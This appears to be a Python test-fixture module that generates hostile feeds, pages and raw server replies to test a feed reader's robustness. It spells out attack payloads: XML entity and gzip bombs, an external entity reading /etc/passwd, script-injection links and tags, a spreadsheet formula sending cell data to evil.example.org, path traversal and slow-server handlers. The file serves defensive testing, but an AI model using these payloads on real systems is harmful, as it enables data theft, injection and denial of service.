"""Bodies and answers of tests/hostile/cases.yaml that don't fit in a line. `makers` give bytes; `raws` write on the wire."""

from __future__ import annotations

import asyncio
import gzip
from collections.abc import Callable, Mapping
from zlib import crc32

from web.server import Raw, Seen

TOPIC = "micro-credentials"


def rss(*items: str, head: str = '<?xml version="1.0" encoding="utf-8"?>') -> str:
    """A feed of items."""
    return (
        f'{head}<rss version="2.0"><channel><title>t</title><link>http://x.test/</link>{"".join(items)}</channel></rss>'
    )


def item(title: str, number: int = 1, more: str = "", link: str | None = None) -> str:
    """An item with enough text that its page is not asked for."""
    where = f"https://{number}.hostile.example.org/{crc32(title.encode())}-{number}" if link is None else link
    return f"<item><title>{title}</title><link>{where}</link><description>{'Words on it. ' * 40}</description>{more}</item>"


def _feed(title: str, number: int = 1, more: str = "", link: str | None = None) -> Callable[[], bytes]:
    return lambda: rss(item(title, number, more, link)).encode()


BOMB = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    + "".join(f'<!ENTITY lol{n} "{f"&lol{n - 1 or str()};" * 10}">' for n in range(1, 10))
    + "]><rss version='2.0'><channel><item><title>&lol9;</title></item></channel></rss>"
)


def _page(title: str, body: str) -> bytes:
    return f"<html><head><title>{title}</title></head><body>{body}</body></html>".encode()


MAKERS: Mapping[str, Callable[[], bytes]] = {
    "nulls": lambda: b"\x00" * 500,
    "picture": lambda: b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 4,
    "aws_challenge": lambda: _page(
        "", "<script>window.awsWafCookieDomainList = [];</script><noscript>JavaScript is disabled</noscript>"
    ),
    "cloudflare_challenge": lambda: _page(
        "Just a moment...", "<script>window._cf_chl_opt={}</script>Enable JavaScript and cookies to continue"
    ),
    "captcha": lambda: _page("Security check", "<form><div class='g-recaptcha'></div>Please prove it.</form>"),
    "login": lambda: _page("Log in – Agency", "<h1>Log in</h1><form><input name=u><input type=password name=p></form>"),
    "truncated": lambda: rss(item(f"First of a cut feed on {TOPIC}"), item("Second", 2)).encode()[:-700],
    "unclosed": lambda: (
        f"<rss version='2.0'><channel><item><title>Unclosed news on {TOPIC}<link>https://u.example.org/1</link></item></channel></rss>".encode()
    ),
    "ampersand": lambda: rss(item(f"Research & {TOPIC}")).encode(),
    "blanks_before": lambda: b"\n\n  " + rss(item(f"Late declaration on {TOPIC}")).encode(),
    "wrong_encoding": lambda: rss(item(f"Café and {TOPIC}")).encode("latin-1"),
    "lying_encoding": lambda: rss(item(f"Zürich reads {TOPIC}")).encode(),
    "unknown_encoding": lambda: rss(
        item(f"Plain {TOPIC} in no known encoding"), head='<?xml version="1.0" encoding="x-klingon"?>'
    ).encode(),
    "utf16": lambda: rss(item(f"Wide letters on {TOPIC}"), head='<?xml version="1.0" encoding="utf-16"?>').encode(
        "utf-16"
    ),
    "controls": lambda: rss(item(f"Control\x01 letters\x1b[31m and {TOPIC}")).encode(),
    "xml_bomb": lambda: BOMB.encode(),
    "xml_bomb_utf16": lambda: BOMB.encode("utf-16"),
    "xml_bomb_late": lambda: BOMB.replace("<!DOCTYPE", f"<!--{'x' * 200_000}--><!DOCTYPE").encode(),
    "xml_bomb_rubbish": lambda: b"rubbish " + BOMB.partition("?>")[2].encode(),
    "xml_bomb_utf7": lambda: BOMB.replace('"1.0"', '"1.0" encoding="utf-7"').encode("utf-7"),
    "unclosed_comments": lambda: b"<rss version='2.0'><channel>" + b"<!--" * 250_000,
    "external_entity": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0"><channel><item><title>&x;</title></item></channel></rss>'
    ),
    "parameter_entity": lambda: (
        b'<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://127.0.0.1/x.dtd"> %x;]><rss version="2.0"><channel/></rss>'
    ),
    "deep": lambda: (
        b"<rss version='2.0'><channel><item><title>x</title><description>"
        + b"<a>" * 100_000
        + b"</description></item></channel></rss>"
    ),
    "gzip_bomb": lambda: gzip.compress(b"<rss>" + b" " * 80_000_000, 1),
    "gzip_cut": lambda: gzip.compress(rss(*(item(f"n{n}", n) for n in range(50))).encode())[:-60],
    "script_links": lambda: rss(
        item(f"Script link on {TOPIC}", 1, "<guid>a</guid>", "javascript:alert(1)"),
        item(f"Data link on {TOPIC}", 2, "<guid>b</guid>", "data:text/html,hello"),
    ).encode(),
    "markup_title": _feed(
        f"<![CDATA[<b>Bold</b> {TOPIC} <img src=x onerror=alert(2)><script>alert(2)</script>and more]]>"
    ),
    "escaped_title": _feed(f"&lt;b&gt;Twice&lt;/b&gt; &amp;lt;i&amp;gt;escaped&amp;lt;/i&amp;gt; {TOPIC}"),
    "long_title": _feed(f"Long title on {TOPIC} " + "and on " * 1500),
    "formula": _feed(f'=HYPERLINK("http://evil.example.org/?q="&amp;A1,"{TOPIC}")'),
    "direction": _feed(f"Read \u202etxt.gpj\u202c on {TOPIC}"),
    "paths": _feed(f"Climbing guid on {TOPIC}", 1, "<guid>../../../../etc/passwd\x09%2e%2e%2f</guid>"),
    "odd_dates": lambda: rss(
        item(f"Year one of {TOPIC}", 1, "<pubDate>Mon, 01 Jan 0001 00:00:00 GMT</pubDate>"),
        item(f"Year 9999 of {TOPIC}", 2, "<pubDate>Fri, 31 Dec 9999 23:59:59 GMT</pubDate>"),
        item(f"Thirtieth of February and {TOPIC}", 3, "<pubDate>Tue, 30 Feb 2021 10:00:00 GMT</pubDate>"),
        item(f"No date but {TOPIC}", 4, "<pubDate>soon</pubDate>"),
    ).encode(),
    "doubled": lambda: rss(
        item(f"One guid, first piece on {TOPIC}", 1, "<guid>same</guid>"),
        item(f"One guid, second piece on {TOPIC}", 2, "<guid>same</guid>"),
    ).encode(),
    "twice": lambda: rss(*[item(f"Said twice about {TOPIC}", 1, "<guid>t</guid>")] * 2).encode(),
    "untitled": lambda: rss(
        f"<item><link>https://untitled.example.org/1</link><description>An untitled note on {TOPIC} says this in its text.</description></item>"
    ).encode(),
    "unlinked": lambda: rss(
        f"<item><title>No link but {TOPIC}</title><description>{'Words on it. ' * 40}</description></item>"
    ).encode(),
    "script_list": lambda: _page(
        "News",
        f"""<main><ul><li><a href="javascript:alert(4)">Bad link about {TOPIC}</a></li><li><a href=" JaVaScRiPt:alert(4)">Worse link about {TOPIC}</a></li>
<li><a href="https://good.example.org/1">Good link about {TOPIC}</a></li></ul></main>""",
    ),
}


async def huge_announced(_seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 200000000\r\n\r\n<rss>")


async def huge_streamed(_seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nConnection: close\r\n\r\n<rss>")
    for _block in range(200):
        writer.write(b" " * 1_000_000)
        await writer.drain()


async def slow_head(_seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\n")
    for number in range(600):
        writer.write(f"X-{number}: y\r\n".encode())
        await writer.drain()
        await asyncio.sleep(0.1)


async def slow_body(_seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 100000\r\n\r\n<rss>")
    for _number in range(600):
        writer.write(b" ")
        await writer.drain()
        await asyncio.sleep(0.1)


async def silent(_seen: Seen, _writer: asyncio.StreamWriter) -> None:
    await asyncio.sleep(60)


async def half_body(_seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.write(
        b"HTTP/1.1 200 OK\r\nContent-Type: application/rss+xml\r\nContent-Length: 5000\r\n\r\n<rss version='2.0'><channel>"
    )


async def hang_up(_seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.close()


async def garbage(_seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.write(b"SSH-2.0-OpenSSH_9.2\r\n" + bytes(range(256)))


async def loop(_seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.1 302 Found\r\nLocation: /feed\r\nContent-Length: 0\r\n\r\n")


async def chain(seen: Seen, writer: asyncio.StreamWriter) -> None:
    writer.write(
        f"HTTP/1.1 302 Found\r\nLocation: /feed?{len(seen.path)}{seen.path[-1:]}x\r\nContent-Length: 0\r\n\r\n".encode()
    )


RAWS: Mapping[str, Raw] = {
    "huge_announced": huge_announced,
    "huge_streamed": huge_streamed,
    "slow_head": slow_head,
    "slow_body": slow_body,
    "silent": silent,
    "half_body": half_body,
    "hang_up": hang_up,
    "garbage": garbage,
    "loop": loop,
    "chain": chain,
}
